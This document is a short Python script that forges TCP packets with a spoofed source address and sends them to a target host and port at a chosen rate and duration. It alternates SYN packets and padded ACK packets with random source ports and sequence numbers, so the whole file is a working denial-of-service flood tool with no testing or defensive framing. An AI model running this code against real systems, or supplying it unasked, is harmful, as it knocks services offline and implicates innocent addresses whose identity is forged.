"""Sends packets to a TCP port in another address's name: forged-packets.py TO PORT FROM PER_SECOND SECONDS.

Prints how many it has sent when half of the time is over.
"""
import random
import socket
import struct
import sys
import time

to, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
per_second, seconds = float(sys.argv[4]), float(sys.argv[5])
SYN, ACK = 2, 16
PAYLOAD = b"x" * 1400
addresses = socket.inet_aton(source) + socket.inet_aton(to)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(flag, payload):
    ports = struct.pack("!HH", random.randrange(1024, 65536), port)
    rest = struct.pack("!IIBBH", random.getrandbits(32), 0 if flag == SYN else 1, 0x50, flag, 65535)
    pseudo = addresses + struct.pack("!HH", 6, 20 + len(payload))
    check = struct.pack("!H", checksum(pseudo + ports + rest + b"\0\0\0\0" + payload))
    head = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(payload), random.getrandbits(16), 0, 64, 6, 0)
    return head + addresses + ports + rest + check + b"\0\0" + payload


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
started = time.monotonic()
sent = 0
half = False
while time.monotonic() - started < seconds:
    while sent < per_second * (time.monotonic() - started):
        raw.sendto(packet(SYN, b"") if sent % 2 else packet(ACK, PAYLOAD), (to, port))
        sent += 1
    if not half and time.monotonic() - started > seconds / 2:
        half = True
        print(sent, flush=True)
    time.sleep(0.002)
